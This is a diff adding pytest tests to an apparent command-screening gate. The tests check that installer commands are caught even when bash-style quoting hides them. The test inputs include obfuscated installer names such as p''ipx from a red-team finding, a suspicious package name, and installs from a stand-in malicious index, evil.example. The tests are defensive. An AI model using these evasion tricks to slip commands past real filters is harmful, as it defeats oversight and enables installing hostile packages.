@@ -324,3 +324,28 @@ def test_a_truncated_command_line_is_read_without_raising(text, tmp_path, data):
                 request = gate._request(inv, {"HOME": str(tmp_path)}, str(tmp_path))
                 if request is not None:
                     decide.decide(request, {}, data)
+
+
+@pytest.mark.parametrize("word", ["p''ipx", "p\\ipx", 'co"n"da', "p\\\nip"])
+def test_an_unparseable_shell_string_with_a_quoted_installer_word_is_refused(word):
+    """red team 6 F15: bash runs the lines before a syntax error, and removes quotes and
+    backslashes before it looks a program up; `p''ipx` is pipx to it."""
+    with pytest.raises(commands.Unreadable):
+        commands.shell_invocations(f"{word} install torcj\necho 'unterminated")
+    assert commands.shell_invocations("echo hello\necho 'unterminated") == []
+
+
+@pytest.mark.parametrize(
+    "script, args",
+    [
+        ("uv pip install x \\\n -i https://evil.example/simple", ["pip", "install", "x", "-i"]),
+        ("echo hi # a note\nuv pip install -i https://evil.example/simple x", ["pip", "install"]),
+        ("echo # a note \\\nuv pip install -i https://evil.example/simple x", ["pip", "install"]),
+    ],
+)
+def test_shell_lines_are_split_and_joined_as_bash_does(script, args):
+    """A backslash-newline joins two lines; a comment ends at its newline, the next line is a
+    command (shlex's comment reading glued it onto the comment's command)."""
+    found = commands.shell_invocations(script)
+    assert [i.tool for i in found] == ["uv"]
+    assert found[0].args[: len(args)] == args and "https://evil.example/simple" in found[0].args
